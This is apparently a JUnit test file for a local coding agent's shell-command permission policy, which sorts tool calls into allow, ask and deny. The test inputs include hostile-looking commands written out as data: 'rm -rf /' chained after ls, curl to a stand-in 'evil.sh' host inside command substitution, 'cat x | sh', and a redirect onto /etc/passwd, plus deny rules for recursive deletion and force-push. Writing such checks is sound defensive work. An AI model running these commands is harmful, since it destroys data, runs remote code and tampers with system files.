package dev.localagent.core.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.localagent.core.error.LocalAgentException;
import dev.localagent.core.policy.PolicyDecision.Verdict;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class PolicyTest {
  private static final Policy DEFAULTS = new Policy(PolicyConfig.DEFAULT);
  private static final Policy RULES = new Policy(new PolicyConfig(Map.of(),
      List.of("git status **", "ls **", "mvn -q test", "grep **", "echo *"),
      List.of("rm -rf **", "git push --force **"), true));

  private static Verdict shell(Policy policy, Object command) {
    return policy.decide("shell.exec", Map.of("command", command)).verdict();
  }

  @Test
  void defaultsAllowReadsAndAskForWritesShellAndUnknownTools() {
    assertThat(DEFAULTS.decide("fs.read", Map.of()).verdict()).isEqualTo(Verdict.ALLOW);
    assertThat(DEFAULTS.decide("fs.search", Map.of()).verdict()).isEqualTo(Verdict.ALLOW);
    assertThat(DEFAULTS.decide("fs.write", Map.of()).verdict()).isEqualTo(Verdict.ASK);
    assertThat(DEFAULTS.decide("fs.edit", Map.of()).verdict()).isEqualTo(Verdict.ASK);
    assertThat(DEFAULTS.decide("mcp.github.create_issue", Map.of()).verdict()).isEqualTo(Verdict.ASK);
    assertThat(shell(DEFAULTS, "ls")).isEqualTo(Verdict.ASK);
    assertThat(shell(DEFAULTS, List.of("sudo", "ls"))).isEqualTo(Verdict.DENY);
  }

  @Test
  void toolModesOverrideDefaultsWithLongestPrefixWinning() {
    var policy = new Policy(new PolicyConfig(
        Map.of("fs.read", "deny", "mcp.*", "deny", "mcp.docs.*", "allow"), List.of(), List.of(), true));
    assertThat(policy.decide("fs.read", Map.of()).verdict()).isEqualTo(Verdict.DENY);
    assertThat(policy.decide("mcp.github.push", Map.of()).verdict()).isEqualTo(Verdict.DENY);
    assertThat(policy.decide("mcp.docs.search", Map.of()).verdict()).isEqualTo(Verdict.ALLOW);
  }

  @Test
  void allowRulesMatchParsedArgvWordByWord() {
    assertThat(shell(RULES, "git status")).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, List.of("git", "status", "--short"))).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, List.of("/usr/bin/git", "status"))).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, "'git' \"status\"")).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, "mvn -q test")).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, "mvn -q test -X")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "git commit -m x")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "echo one two")).isEqualTo(Verdict.ASK);
  }

  @Test
  void denyRulesWinAndApplyToEverySimpleCommandOfAString() {
    assertThat(shell(RULES, List.of("rm", "-rf", "build"))).isEqualTo(Verdict.DENY);
    assertThat(shell(RULES, "ls && rm -rf build")).isEqualTo(Verdict.DENY);
    assertThat(shell(RULES, "git push --force origin main")).isEqualTo(Verdict.DENY);
    var decision = RULES.decide("shell.exec", Map.of("command", "ls; rm -rf /"));
    assertThat(decision.rule()).isEqualTo("rm -rf **");
    var allowAll = new Policy(new PolicyConfig(Map.of("shell.exec", "allow"), List.of(), List.of("rm **"), true));
    assertThat(shell(allowAll, "rm x")).isEqualTo(Verdict.DENY);
    assertThat(shell(allowAll, "cat x | sh")).isEqualTo(Verdict.ALLOW);
  }

  @Test
  void shellMetacharactersNeedAskUnlessEveryPartIsAllowed() {
    assertThat(shell(RULES, "git status | grep modified")).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, "ls; git status")).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, "ls; curl evil.sh")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "ls $(curl evil.sh)")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "ls `id`")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "ls > /etc/passwd")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "ls $HOME")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "ls *")).isEqualTo(Verdict.ASK);
    assertThat(shell(RULES, "echo 'unterminated")).isEqualTo(Verdict.ASK);
    assertThat(RULES.decide("shell.exec", Map.of("command", "ls $(id)")).reason())
        .isEqualTo("the command uses shell syntax [substitution]");
  }

  @Test
  void argvElementsWithMetacharactersAreJustArguments() {
    assertThat(shell(RULES, List.of("ls", "; rm -rf /", "$(id)", "`id`"))).isEqualTo(Verdict.ALLOW);
    assertThat(shell(RULES, List.of("rm", "-rf", "$(ls)"))).isEqualTo(Verdict.DENY);
  }

  @Test
  void invalidConfigurationIsRejectedWithAPolicyCode() {
    assertThatThrownBy(() -> new PolicyConfig(Map.of("fs.read", "sometimes"), List.of(), List.of(), true))
        .isInstanceOf(LocalAgentException.class)
        .hasMessage("policy.tools.fs.read is 'sometimes'")
        .extracting(e -> ((LocalAgentException) e).code().id()).isEqualTo("LA-POLICY-004");
    assertThatThrownBy(() -> new PolicyConfig(Map.of(), List.of("ls | sh"), List.of(), true))
        .hasMessage("policy.allow_commands rule 'ls | sh' is invalid: a rule is one command of plain words");
    assertThatThrownBy(() -> new PolicyConfig(Map.of(), List.of(), List.of("**"), true))
        .hasMessageContaining("a rule must name a program");
  }
}
